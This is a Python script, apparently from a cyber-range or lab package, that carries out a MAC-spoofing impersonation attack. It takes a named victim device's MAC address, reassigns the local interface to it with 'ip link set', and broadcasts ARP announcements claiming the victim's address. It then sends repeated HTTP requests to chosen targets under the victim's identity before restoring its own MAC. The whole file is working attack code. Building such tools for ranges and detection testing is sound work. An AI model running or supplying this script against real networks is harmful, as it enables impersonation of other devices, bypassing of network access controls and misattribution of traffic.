"""Takes the MAC address of another device, speaks with it for a while, and takes its own again.

References: ip-link(8), RFC 5227 2.3 (announcing an address).
"""

import subprocess
from collections.abc import Iterator, Sequence
from contextlib import contextmanager

from wardline_range.protocols import http
from wardline_range.real.programs import lifetime
from wardline_range.real.programs.calls import asked, call
from wardline_range.real.programs.pace import beats
from wardline_range.real.programs.wire import ARP, Wire, announcement, owner

_PATIENCE_S = 1.0


def main(given: Sequence[str] | None = None) -> None:
    """Speak in the other's name until the time is over; its own MAC address is put back in any case."""
    parser = lifetime.arguments(__doc__)
    parser.add_argument("--interface", default="eth0")
    parser.add_argument("--ip", required=True, help="its own address")
    parser.add_argument("--victim", required=True, help="address of the device whose MAC address is taken")
    parser.add_argument("--to", nargs="+", required=True, metavar="ADDRESS:PORT", help="whom to speak to")
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--every", type=float, default=1.0)
    told = parser.parse_args(given)
    lifetime.end_when_told()
    with Wire(told.interface, ARP) as wire:
        taken = owner(wire, told.ip, told.victim)
    with _called(told.interface, told.ip, taken):
        for number in beats(told.seconds, told.every):
            address, _, port = told.to[number % len(told.to)].partition(":")
            _greet(address, int(port))


@contextmanager
def _called(interface: str, ip: str, mac: str) -> Iterator[None]:
    """Under another MAC address, which the network is told of, as of the return to the first."""
    with Wire(interface, ARP) as wire:
        own = wire.mac
        try:
            _rename(interface, mac)
            wire.send(announcement(mac, ip))
            yield
        finally:
            _rename(interface, own)
            wire.send(announcement(own, ip))


def _rename(interface: str, mac: str) -> None:
    subprocess.run(["ip", "link", "set", "dev", interface, "address", mac], check=True)


def _greet(address: str, port: int) -> None:
    try:
        with call(address, port, _PATIENCE_S) as talk:
            asked(talk, http.request("GET", address, "/", "Mozilla/5.0", Connection="close"))
    except OSError as error:
        print(f"{address}:{port}: {error}", flush=True)


if __name__ == "__main__":
    main()
